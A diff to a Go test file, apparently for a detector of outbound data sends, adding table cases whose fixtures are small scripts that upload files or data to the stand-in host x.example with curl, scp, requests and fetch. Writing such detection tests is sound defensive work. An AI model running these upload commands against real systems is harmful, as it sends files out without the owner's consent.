@@ -172,6 +172,8 @@ func TestSends(t *testing.T) {
 		"by a default":     {[]Text{text("a.sh", "at=\"${AT:-https://x.example/in}\"\ncurl -s \"$at\" -F \"f=@$1\"\n")}, "x.example:2 body carries"},
 		"of another file":  {[]Text{text("at.py", "AT = 'https://x.example/in'\n"), text("a.py", "import requests\nfrom at import AT\nrequests.put(AT, data=b'1')\n")}, "x.example:3 body carries"},
 		"to who is asked":  {[]Text{text("a.py", "import sys, requests\nrequests.post(sys.argv[1], data=b'1')\n")}, ""},
+		"words with post":  {[]Text{text("a.py", "import requests\nrequests.get('https://x.example/output.json')\nrequests.get('https://x.example/dispatch')\n")}, "x.example:2 body"},
+		"a method by name": {[]Text{text("a.js", "fetch('https://x.example/in', { method: 'PUT' });\n")}, "x.example:1 body carries"},
 		"a clustered flag": {[]Text{text("a.sh", "curl -sT out.csv https://x.example/in\n")}, "x.example:1 body carries"},
 		"fails on errors":  {[]Text{text("a.sh", "curl -LsSf https://x.example/in\n")}, "x.example:1 body"},
 		"a copy of a file": {[]Text{text("a.sh", "scp out.csv me@x.example:/in\n")}, "x.example:1 file carries"},
